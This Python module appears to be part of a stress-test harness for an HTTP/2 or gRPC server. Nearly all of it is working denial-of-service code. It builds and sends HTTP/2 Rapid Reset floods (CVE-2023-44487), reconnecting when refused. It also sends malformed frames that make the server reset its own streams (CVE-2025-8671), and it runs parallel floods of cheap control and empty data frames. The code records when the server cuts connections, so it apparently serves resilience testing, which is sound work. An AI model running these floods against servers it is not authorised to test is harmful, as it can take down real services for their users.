"""Frames that cost the sender little: resets, control frames, empty data, small messages."""
import struct
import time

from target import END, GONE, READY, STREAM, WRAP, Push, frame, h, headers, message, streams


def rapid_reset(t, n, seconds, shape="request"):
    """CVE-2023-44487: n requests, each reset at once, over as few connections as the daemon allows; refused, it comes again."""
    block, ids, p, conns, refused = headers(WRAP), None, Push(), 0, 0
    end = time.monotonic() + seconds
    first_cut = None
    source = t.address()
    make = {
        "request": lambda i: frame(h.HEADERS, READY | END, i, block) + frame(h.RST, 0, i, b"\0\0\0\x08"),
        "open": lambda i: frame(h.HEADERS, READY, i, block) + frame(h.RST, 0, i, b"\0\0\0\x08"),
        "served": lambda i: frame(h.HEADERS, READY, i, block) + frame(h.DATA, END, i, message(b"\x0a\x01x" * 8)) + frame(h.RST, 0, i, b"\0\0\0\x08"),
    }[shape]
    pair = len(make(1))
    ids = streams()
    chunk = b"".join(make(next(ids)) for _ in range(n))
    while time.monotonic() < end and p.sent < len(chunk):
        try:
            s = t.raw(source)
        except GONE:
            refused += 1
            time.sleep(0.05)
            continue
        conns += 1
        p.run(s, chunk, end - time.monotonic(), once=True)
        first_cut = first_cut or p.cut_after_s
        s.close()
    return p.result(offered=n, pairs=p.sent // pair, connections=conns, refused=refused, first_cut_s=first_cut)


def made_you_reset(t, seconds):
    """CVE-2025-8671's idea: the server is made to reset the streams itself, by frames that break a stream's rules only."""
    block, end, total, conns, refused, source = headers(WRAP), time.monotonic() + seconds, 0, 0, 0, t.address()
    breaks = (lambda i: frame(h.WINDOW_UPDATE, 0, i, b"\0\0\0\0"), lambda i: frame(h.WINDOW_UPDATE, 0, i, b"\x7f\xff\xff\xff"),
              lambda i: frame(h.DATA, END, i, message(b"x" * 30) + b"trailing"), lambda i: frame(h.DATA, END, i, b"\0\0\0\0\x64short"),
              lambda i: frame(h.PRIORITY, 0, i, struct.pack(">IB", i, 1)))
    codes = []
    while time.monotonic() < end:
        try:
            s = t.raw(source)
        except GONE:
            refused += 1
            time.sleep(0.05)
            continue
        conns += 1
        chunk = b"".join(frame(h.HEADERS, READY, i, block) + breaks[(i // 2 + conns) % 5](i) for i in range(1, 40001, 2))
        p = Push().run(s, chunk, end - time.monotonic(), once=True, read=True)
        total += p.sent
        codes += p.codes
        s.close()
    return {"sent": total, "connections": conns, "refused": refused, "codes": codes}


CONTROL = {
    "SETTINGS": frame(h.SETTINGS, 0, 0, b"\0\x03\0\0\0\x64"),
    "empty SETTINGS": frame(h.SETTINGS),
    "PING": frame(h.PING, 0, 0, b"12345678"),
    "PING ACK": frame(h.PING, 1, 0, b"12345678"),
    "SETTINGS ACK": frame(h.SETTINGS, 1),
    "WINDOW_UPDATE": frame(h.WINDOW_UPDATE, 0, 0, b"\0\0\0\x01"),
    "PRIORITY": frame(h.PRIORITY, 0, 1, b"\0\0\0\0\x10"),
    "unknown": frame(0xEE, 0, 0, b""),
    "GOAWAY": frame(h.GOAWAY, 0, 0, b"\0\0\0\0\0\0\0\0"),
    "zero DATA": frame(h.DATA, 0, 1),
    "padded DATA": frame(h.DATA, 8, 1, b"\xff" + b"\0" * 255),
    "empty messages": frame(h.DATA, 0, 1, message(b"")),
    "tiny DATA": frame(h.DATA, 0, 1, b"\0"),
}


def control_floods(t, kinds, seconds, read=False):
    """Each kind over a connection of its own, in turn by slices, so that all of them press at once."""
    socks, pushes, chunks = {}, {}, {}
    for kind in kinds:
        socks[kind] = t.raw()
        if "DATA" in kind or "messages" in kind:
            socks[kind].sendall(frame(h.HEADERS, READY, 1, headers(STREAM)))
        pushes[kind] = Push()
        chunks[kind] = CONTROL[kind] * (65536 // len(CONTROL[kind]))
    end = time.monotonic() + seconds
    cut = {}
    start = time.monotonic()
    while time.monotonic() < end and len(cut) < len(kinds):
        for kind in kinds:
            if kind in cut:
                continue
            pushes[kind].run(socks[kind], chunks[kind], 0.12, read=read)
            if pushes[kind].cut_after_s is not None:
                cut[kind] = time.monotonic() - start
    for s in socks.values():
        s.close()
    return {k: {"frames": pushes[k].sent // len(CONTROL[k]), "cut_after_s": cut.get(k), "codes": pushes[k].codes, "paced": pushes[k].paced}
            for k in kinds}
